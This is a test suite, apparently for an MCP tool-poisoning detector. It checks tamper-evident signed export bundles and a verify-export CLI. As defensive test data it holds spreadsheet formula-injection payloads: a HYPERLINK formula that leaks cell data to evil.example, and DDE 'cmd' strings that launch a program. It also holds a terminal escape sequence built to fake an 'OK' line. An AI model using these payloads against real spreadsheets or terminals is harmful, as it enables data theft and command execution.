import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type AuditEntry, computeAuditHash, isControlCodePoint } from '@palisade/schema';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runVerifyExport, trustedKeyFingerprint } from '../src/cli/verify-export.command.js';
import { signedManifestBytes } from '../src/exports/bundle-format.js';
import { verifyBundle } from '../src/exports/bundle.verifier.js';
import { type RunningDetector, startDetector } from './support/detector.harness.js';
import { printed } from './support/quietly.js';
import { POISONED_ADD, TelemetryBuilder } from './support/telemetry.builder.js';

type Record = { id: string; path?: string; files: { path: string }[] };

/** Runs verify-export on each path in turn, keeping what it prints on stdout: the exit codes and the lines. */
async function verifyPrinting(...paths: string[]): Promise<{ codes: number[]; out: string[] }> {
  const { value: codes, out } = await printed(async () => {
    const codes: number[] = [];
    for (const target of paths) codes.push(await runVerifyExport(target));
    return codes;
  });
  return { codes, out };
}

// Names a monitored server chooses, written as spreadsheet formulas (OWASP "CSV injection").
const FORMULA_TOOL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
const FORMULA_SESSION = "=cmd|' /C calc'!A0";
const FORMULA_CLIENT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const FORMULA_TARGET = "-2+3+cmd|' /C calc'!A0";

describe('compliance export and verify-export', () => {
  let detector: RunningDetector;
  const scratch = mkdtempSync(path.join(tmpdir(), 'palisade-export-test-'));
  const bundles: { [format: string]: string } = {};

  beforeAll(async () => {
    detector = await startDetector();
    const b = new TelemetryBuilder('math');
    await detector.publish([b.initialize(), b.toolsList([POISONED_ADD]), b.call('add', { a: 1, b: 2, sidenote: 'x' })]);
    const incident = await detector.waitFor(async () => (await detector.api<{ items: { id: string }[] }>('GET', '/api/incidents')).body.items[0], 'an incident');
    // A few analyst actions, so the audit chain has entries of several kinds.
    await detector.api('PATCH', `/api/incidents/${incident.id}`, { body: { status: 'triaging', assignee: 'ann', note: 'looking at it' } });
    await detector.api('PATCH', `/api/incidents/${incident.id}`, { body: { note: 'confirmed malicious' } });
    await detector.api('POST', '/api/tools/math/add/release', { body: { reason: 'test' } });
    await detector.api('POST', '/api/tools/math/add/quarantine', { body: { reason: 'test again' } });
    // A server whose tool, session and client names are formulas, and an audit entry whose target is one.
    const hostile = new TelemetryBuilder('math', FORMULA_SESSION);
    await detector.publish([hostile.toolsList([{ ...POISONED_ADD, name: FORMULA_TOOL }]), hostile.call(FORMULA_TOOL, { a: 1, b: 2 }, 'ok', { 'palisade.client.name': FORMULA_CLIENT })]);
    await detector.waitFor(async () => (await detector.api<{ items: unknown[] }>('GET', `/api/alerts?tool=${encodeURIComponent(FORMULA_TOOL)}`)).body.items.length > 0, 'an alert on the formula-named tool');
    await detector.store.audit.append([{ ts: new Date().toISOString(), actor: { type: 'system', id: 'test' }, action: 'test.formula', target: FORMULA_TARGET, details: {} }]);
    // A name with half a surrogate pair (JSON can say "\ud800"; UTF-8, and so a CSV file, cannot).
    await detector.store.audit.append([{ ts: new Date().toISOString(), actor: { type: 'system', id: 'test' }, action: 'tool.quarantine', target: 'tool:math/read\ud800file', details: { reason: 'poisoned read\udc00file' } }]);
    const from = new Date(Date.now() - 3600_000).toISOString();
    const to = new Date(Date.now() + 1000).toISOString();
    for (const format of ['ndjson', 'csv']) {
      const created = await detector.api<Record>('POST', '/api/exports', { body: { from, to, format } });
      expect(created.status).toBe(201);
      bundles[format] = path.join(detector.home, 'exports', created.body.id);
    }
  });

  afterAll(async () => {
    await detector?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  function copy(format: string): string {
    const dir = path.join(scratch, `${format}-${Math.random().toString(36).slice(2)}`);
    cpSync(bundles[format]!, dir, { recursive: true });
    return dir;
  }

  for (const format of ['ndjson', 'csv']) {
    describe(`${format} bundle`, () => {
      it('verifies intact, with every file listed and records in it', () => {
        const result = verifyBundle(bundles[format]!);
        expect(result.ok).toBe(true);
        if (!result.ok) return;
        expect(result.manifest.files.map((f) => f.path)).toEqual([`events.${format}`, `alerts.${format}`, 'alerts.ocsf.json', `incidents.${format}`, `audit.${format}`]);
        expect(result.manifest.files.find((f) => f.path.startsWith('events'))!.records).toBeGreaterThanOrEqual(3);
        expect(result.manifest.audit.lastSeq).toBeGreaterThanOrEqual(4);
        // Events older than the retention may be missing for that reason: the bundle says how long each kind is kept.
        // Only those it holds: tool versions are not in a bundle, and a key older verifiers do not know would break their check.
        const { eventsDays, alertsDays, auditDays } = detector.config.retention;
        expect(result.manifest.retention).toEqual({ eventsDays, alertsDays, auditDays });
        const ocsf = JSON.parse(readFileSync(path.join(bundles[format]!, 'alerts.ocsf.json'), 'utf8')) as { class_uid: number }[];
        expect(ocsf.length).toBeGreaterThan(0);
        expect(ocsf.every((f) => f.class_uid === 2004)).toBe(true);
      });

      it('names any file in which one byte changed', () => {
        for (const name of readdirSync(bundles[format]!).filter((n) => n !== 'manifest.json')) {
          const dir = copy(format);
          const file = path.join(dir, name);
          const bytes = readFileSync(file);
          const at = Math.floor(bytes.length / 2);
          bytes[at] = bytes[at] === 0x41 ? 0x42 : 0x41;
          writeFileSync(file, bytes);
          const result = verifyBundle(dir);
          expect(result.ok, name).toBe(false);
          if (!result.ok) expect(result.problem).toContain(name);
        }
      });

      it('names a removed file and an added one, and a changed manifest', () => {
        let dir = copy(format);
        rmSync(path.join(dir, `alerts.${format}`));
        expect(verifyBundle(dir)).toEqual({ ok: false, problem: `alerts.${format} was removed` });
        dir = copy(format);
        writeFileSync(path.join(dir, 'notes.txt'), 'added later');
        expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'notes.txt was added (not in the manifest)' });
        dir = copy(format);
        const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
        manifest.range.from = '2020-01-01T00:00:00.000Z';
        writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(manifest));
        const result = verifyBundle(dir);
        expect(result.ok).toBe(false);
        if (!result.ok) expect(result.problem).toMatch(/manifest\.json was altered/);
        // A shorter retention written in, to pass deleted records off as retention's work, is an alteration too.
        dir = copy(format);
        const kept = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
        kept.retention.eventsDays = 1;
        writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(kept));
        const shortened = verifyBundle(dir);
        expect(shortened.ok).toBe(false);
        if (!shortened.ok) expect(shortened.problem).toMatch(/manifest\.json was altered/);
      });

      it('names a deleted audit entry and two reordered ones', () => {
        const auditName = `audit.${format}`;
        const header = format === 'csv' ? 1 : 0;
        let dir = copy(format);
        let lines = readFileSync(path.join(dir, auditName), 'utf8').split('\n');
        const third = header + 2;
        const seqOf = (line: string): number => (format === 'csv' ? Number(line.split(',')[0]) : (JSON.parse(line) as { seq: number }).seq);
        const deletedSeq = seqOf(lines[third]!);
        lines.splice(third, 1);
        writeFileSync(path.join(dir, auditName), lines.join('\n'));
        let result = verifyBundle(dir);
        expect(result.ok).toBe(false);
        if (!result.ok) expect(result.problem).toContain(`audit entry ${deletedSeq}`);

        dir = copy(format);
        lines = readFileSync(path.join(dir, auditName), 'utf8').split('\n');
        const a = header + 1;
        const firstSeq = seqOf(lines[a]!);
        [lines[a], lines[a + 1]] = [lines[a + 1]!, lines[a]!];
        writeFileSync(path.join(dir, auditName), lines.join('\n'));
        result = verifyBundle(dir);
        expect(result.ok).toBe(false);
        if (!result.ok) expect(result.problem).toContain(`audit entry ${firstSeq}`);
      });
    });
  }

  it('names a bundle file grown past what one read can hold (2 GiB) as altered, instead of failing with a stack', () => {
    const dir = copy('ndjson');
    truncateSync(path.join(dir, 'events.ndjson'), 2 ** 31 + 1); // sparse: no disk used
    expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'events.ndjson was altered (SHA-256 does not match the manifest)' });
  });

  it('answers 404 for the download of a bundle whose files were removed from disk, and keeps running', async () => {
    const created = await detector.api<Record>('POST', '/api/exports', { body: { from: '2020-01-01', to: '2020-01-02' } });
    rmSync(path.join(detector.home, 'exports', created.body.id), { recursive: true });
    for (const route of [`/api/exports/${created.body.id}/files/events.ndjson`, `/api/exports/${created.body.id}/archive`]) {
      const response = await detector.api<{ error: { message: string } }>('GET', route);
      expect(response.status, route).toBe(404);
      expect(response.body.error.message, route).toMatch(/no longer on disk/);
    }
    await new Promise((resolve) => setTimeout(resolve, 50)); // a stream failing after the answer would surface here
    expect((await detector.api('GET', '/api/health')).status).toBe(200);
  });

  it('removes the folder of an export that died part-way once nothing was written to it for an hour, and leaves a recent one', async () => {
    const exportsDir = path.join(detector.home, 'exports');
    const abandoned = path.join(exportsDir, 'exp_01ABANDONED000000000000000.partial');
    const recent = path.join(exportsDir, 'exp_01RECENT000000000000000000.partial');
    for (const dir of [abandoned, recent]) {
      mkdirSync(dir);
      writeFileSync(path.join(dir, 'events.ndjson'), '{}\n');
    }
    const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
    for (const file of [path.join(abandoned, 'events.ndjson'), abandoned]) utimesSync(file, twoHoursAgo, twoHoursAgo);
    expect((await detector.api('POST', '/api/exports', { body: { from: '2020-01-01', to: '2020-01-02' } })).status).toBe(201);
    expect(readdirSync(exportsDir).filter((name) => name.endsWith('.partial'))).toEqual([path.basename(recent)]);
    rmSync(recent, { recursive: true });
  });

  it('downloads a bundle file as stored, with its length', async () => {
    const id = path.basename(bundles.ndjson!);
    const response = await fetch(`${detector.url}/api/exports/${id}/files/events.ndjson`, { headers: { authorization: `Bearer ${detector.adminToken}` } });
    expect(response.status).toBe(200);
    const stored = readFileSync(path.join(bundles.ndjson!, 'events.ndjson'));
    expect(response.headers.get('content-length')).toBe(String(stored.length));
    expect(Buffer.from(await response.arrayBuffer()).equals(stored)).toBe(true);
  });

  it('names a bundle file replaced by a folder or by a link, instead of failing with a stack or vouching for what lies elsewhere', async () => {
    let dir = copy('ndjson');
    rmSync(path.join(dir, 'events.ndjson'));
    mkdirSync(path.join(dir, 'events.ndjson'));
    expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'events.ndjson was replaced by a folder' });
    const { codes, out } = await verifyPrinting(dir);
    expect(codes).toEqual([1]);
    expect(out).toEqual(['FAILED: events.ndjson was replaced by a folder\n']);

    dir = copy('ndjson');
    rmSync(path.join(dir, 'audit.ndjson'));
    symlinkSync(path.join(bundles.ndjson!, 'audit.ndjson'), path.join(dir, 'audit.ndjson'));
    expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'audit.ndjson was replaced by a symbolic link' });

    dir = copy('ndjson');
    rmSync(path.join(dir, 'manifest.json'));
    mkdirSync(path.join(dir, 'manifest.json'));
    expect(verifyBundle(dir)).toEqual({ ok: false, problem: 'manifest.json was replaced by a folder' });

    // A manifest swapped for a huge file is named without being read (8 GiB, sparse: no disk used).
    dir = copy('ndjson');
    truncateSync(path.join(dir, 'manifest.json'), 2 ** 33);
    expect(verifyBundle(dir)).toEqual({ ok: false, problem: `manifest.json is ${2 ** 33} bytes, more than a manifest can be (1048576): it was replaced` });
  });

  it('names an audit entry added before or after the exported run, and a run edited and re-hashed, as such rather than as removed', async () => {
    type Entry = AuditEntry & { hash: string };
    const audit = (await detector.api<{ items: Entry[] }>('GET', '/api/audit?limit=500')).body.items.reverse();
    const readEntries = (dir: string): Entry[] => readFileSync(path.join(dir, 'audit.ndjson'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Entry);
    const writeEntries = (dir: string, entries: Entry[]) => writeFileSync(path.join(dir, 'audit.ndjson'), entries.map((e) => `${JSON.stringify(e)}\n`).join(''));
    const problem = (dir: string): string => {
      const result = verifyBundle(dir);
      return result.ok ? 'OK' : result.problem;
    };

    // A genuine later entry (the export's own, for one) appended after the manifest's head.
    let dir = copy('ndjson');
    let entries = readEntries(dir);
    const lastSeq = entries.at(-1)!.seq;
    writeEntries(dir, [...entries, audit.find((e) => e.seq === lastSeq + 1)!]);
    expect(problem(dir)).toBe(`audit.ndjson: audit entry ${lastSeq + 1} was added (the manifest's entries end at ${lastSeq})`);

    // Entry 2 edited and every hash from it recomputed: the chain holds, its head is not the manifest's.
    dir = copy('ndjson');
    entries = readEntries(dir);
    let prevHash = entries[0]!.prevHash;
    entries = entries.map((entry) => {
      const edited = { ...entry, prevHash, ...(entry.seq === 2 ? { target: 'tool:math/other' } : {}) };
      const { hash: _hash, ...rest } = edited;
      prevHash = computeAuditHash(rest);
      return { ...edited, hash: prevHash };
    });
    writeEntries(dir, entries);
    expect(problem(dir)).toBe(`audit.ndjson: audit entries 1–${lastSeq} were altered and re-hashed (the chain does not end at the manifest's head)`);

    // A bundle of a later run, with the entry before it put back in front.
    const from = audit.find((e) => e.seq === 3)!.ts;
    const later = await detector.api<Record>('POST', '/api/exports', { body: { from, to: new Date(Date.now() + 1000).toISOString() } });
    dir = path.join(scratch, 'later');
    cpSync(path.join(detector.home, 'exports', later.body.id), dir, { recursive: true });
    writeEntries(dir, [audit.find((e) => e.seq === 2)!, ...readEntries(dir)]);
    expect(problem(dir)).toBe('audit.ndjson: audit entry 2 was added (the manifest\'s entries start at 3)');

    // A bundle of a range without audit entries, given one.
    const empty = await detector.api<Record>('POST', '/api/exports', { body: { from: '2020-01-01', to: '2020-01-02' } });
    dir = path.join(scratch, 'empty');
    cpSync(path.join(detector.home, 'exports', empty.body.id), dir, { recursive: true });
    expect(problem(dir)).toBe('OK');
    writeEntries(dir, [audit[0]!]);
    expect(problem(dir)).toBe('audit.ndjson: audit entry 1 was added (the manifest lists no audit entry)');
  });

  it('gives a range without audit entries the chain head as of its end, not the genesis hash, so consecutive bundles still link', async () => {
    const audit = (await detector.api<{ items: AuditEntry[] }>('GET', '/api/audit?limit=500')).body.items.reverse();
    const gap = audit.findIndex((entry, i) => i > 0 && Date.parse(entry.ts) - Date.parse(audit[i - 1]!.ts) >= 2);
    expect(gap).toBeGreaterThan(0);
    const before = audit[gap - 1]!;
    const from = new Date(Date.parse(before.ts) + 1).toISOString();
    const created = await detector.api<Record & { auditHead: string }>('POST', '/api/exports', { body: { from, to: audit[gap]!.ts } });
    expect(created.status).toBe(201);
    const dir = path.join(detector.home, 'exports', created.body.id);
    const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as { audit: unknown };
    expect(manifest.audit).toEqual({ firstSeq: before.seq + 1, lastSeq: before.seq, prevHash: before.hash, head: before.hash });
    expect(created.body.auditHead).toBe(before.hash);
    expect(readFileSync(path.join(dir, 'audit.ndjson'), 'utf8')).toBe('');
    expect(verifyBundle(dir).ok).toBe(true);

    // The run just before it ends at the same head.
    const previous = await detector.api<Record & { auditHead: string }>('POST', '/api/exports', { body: { from: '2020-01-01', to: from } });
    expect(previous.body.auditHead).toBe(before.hash);
  });

  it('writes no CSV cell that a spreadsheet would run as a formula, and keeps the text for whoever reads it back', () => {
    const cells = (name: string) => parse(readFileSync(path.join(bundles.csv!, name)), { columns: true }) as { [column: string]: string }[];
    const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
    for (const name of ['events.csv', 'alerts.csv', 'incidents.csv', 'audit.csv']) {
      for (const row of cells(name)) for (const [column, value] of Object.entries(row)) expect(value, `${name} ${column}`).not.toMatch(formula);
    }
    const event = cells('events.csv').find((row) => row['gen_ai.tool.name'] === `'${FORMULA_TOOL}`);
    expect(event).toMatchObject({ 'mcp.session.id': `'${FORMULA_SESSION}`, 'palisade.client.name': `'${FORMULA_CLIENT}` });
    expect(JSON.parse(event!.json!)).toMatchObject({ 'gen_ai.tool.name': FORMULA_TOOL, 'mcp.session.id': FORMULA_SESSION });
    expect(cells('alerts.csv').some((row) => row.tool === `'${FORMULA_TOOL}` && row.sessionId === `'${FORMULA_SESSION}`)).toBe(true);
    expect(cells('incidents.csv').some((row) => row.tool === `'${FORMULA_TOOL}`)).toBe(true);
    expect(cells('audit.csv').map((row) => row.target)).toContain(`'${FORMULA_TARGET}`);
    // Guarded cells are quoted too; the NDJSON bundle keeps every value as captured.
    expect(readFileSync(path.join(bundles.csv!, 'audit.csv'), 'utf8')).toContain(`"'${FORMULA_TARGET}"`);
    expect(readFileSync(path.join(bundles.ndjson!, 'audit.ndjson'), 'utf8')).toContain(`"target":${JSON.stringify(FORMULA_TARGET)}`);
  });

  it('with the install key pinned, refuses a bundle re-signed by anyone else after its content was changed', async () => {
    const key = await detector.api<{ algorithm: string; publicKey: string; fingerprint: string }>('GET', '/api/exports/key');
    expect(key.status).toBe(200);
    expect(key.body).toMatchObject({ algorithm: 'Ed25519', publicKey: expect.stringContaining('BEGIN PUBLIC KEY'), fingerprint: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) });
    expect(verifyBundle(bundles.ndjson!, { trustedKey: key.body.fingerprint }).ok).toBe(true);
    // The PEM the API gives and the fingerprint name the same key.
    const pemFile = path.join(scratch, 'install.pem');
    writeFileSync(pemFile, key.body.publicKey);
    expect(trustedKeyFingerprint(pemFile)).toEqual({ fingerprint: key.body.fingerprint });
    expect(trustedKeyFingerprint(path.join(scratch, 'missing.pem'))).toEqual({ error: expect.stringContaining('--key') });

    // A forger drops the events, fixes the manifest's hash and size, and signs with a key of their own.
    const forged = copy('ndjson');
    writeFileSync(path.join(forged, 'events.ndjson'), '');
    const manifest = JSON.parse(readFileSync(path.join(forged, 'manifest.json'), 'utf8')) as { files: { path: string; sha256: string; bytes: number; records: number }[]; publicKey: string; signature?: string };
    const events = manifest.files.find((f) => f.path === 'events.ndjson')!;
    Object.assign(events, { sha256: createHash('sha256').digest('hex'), bytes: 0, records: 0 });
    const forger = generateKeyPairSync('ed25519');
    manifest.publicKey = forger.publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
    delete manifest.signature;
    manifest.signature = sign(null, signedManifestBytes(manifest as never), forger.privateKey).toString('base64');
    writeFileSync(path.join(forged, 'manifest.json'), JSON.stringify(manifest));
    // Self-consistent, so only a pinned key can tell: without one it verifies (and the CLI prints the signer).
    expect(verifyBundle(forged).ok).toBe(true);
    const pinned = verifyBundle(forged, { trustedKey: key.body.fingerprint });
    expect(pinned.ok).toBe(false);
    const forgerKey = trustedKeyFingerprint(writePem(forger.publicKey.export({ type: 'spki', format: 'pem' }).toString()));
    if (!('fingerprint' in forgerKey)) throw new Error(forgerKey.error);
    if (!pinned.ok) expect(pinned.problem).toBe(`manifest.json is signed by key ${forgerKey.fingerprint}, not by the trusted key ${key.body.fingerprint}`);
  });

  function writePem(pem: string): string {
    const file = path.join(scratch, `key-${Math.random().toString(36).slice(2)}.pem`);
    writeFileSync(file, pem);
    return file;
  }

  it('verify-export checks the downloaded .tar.gz and prints OK', async () => {
    const list = await detector.api<{ items: Record[] }>('GET', '/api/exports');
    const response = await fetch(`${detector.url}/api/exports/${list.body.items[0]!.id}/archive`, { headers: { authorization: `Bearer ${detector.adminToken}` } });
    expect(response.status).toBe(200);
    const archive = path.join(scratch, 'bundle.tar.gz');
    writeFileSync(archive, Buffer.from(await response.arrayBuffer()));
    const broken = copy('ndjson');
    writeFileSync(path.join(broken, 'events.ndjson'), 'tampered\n');
    const { codes, out } = await verifyPrinting(archive, bundles.ndjson!, broken);
    expect(codes).toEqual([0, 0, 1]);
    expect(out[0]).toBe('OK\n');
    expect(out[2]).toMatch(/^FAILED: events\.ndjson was altered/);
  });

  it('verify-export shows what an altered bundle holds escaped, so a file name or the manifest cannot rewrite its FAILED line', async () => {
    // On a terminal: back to the line start, erase it, a green OK, and the rest hidden.
    const overwrite = '\r\u001b[2K\u001b[32mOK\u001b[0m\u001b[8m';
    const added = copy('ndjson');
    writeFileSync(path.join(added, overwrite), '');
    const garbled = copy('ndjson');
    writeFileSync(path.join(garbled, 'manifest.json'), `${overwrite}\n`);
    const { codes, out } = await verifyPrinting(added, garbled);
    expect(codes).toEqual([1, 1]);
    expect(out).toHaveLength(2);
    for (const line of out) expect([...line.slice(0, -1)].filter((c) => isControlCodePoint(c.codePointAt(0)!)), line).toEqual([]);
    expect(out[0]).toBe('FAILED: \\r\\u001b[2K\\u001b[32mOK\\u001b[0m\\u001b[8m was added (not in the manifest)\n');
    expect(out[1]).toContain('manifest.json is not JSON');
  });

  it('verify-export names a file that is not a bundle archive in one line instead of failing with a stack', async () => {
    const junk = path.join(scratch, 'not-a-bundle.tar.gz');
    writeFileSync(junk, 'this is not gzip');
    const { codes, out } = await verifyPrinting(junk);
    expect(codes).toEqual([1]);
    expect(out.join('')).toMatch(/^FAILED: \S+not-a-bundle\.tar\.gz is not a bundle archive \(\.tar\.gz\): [^\n]+\n$/);
  });
});
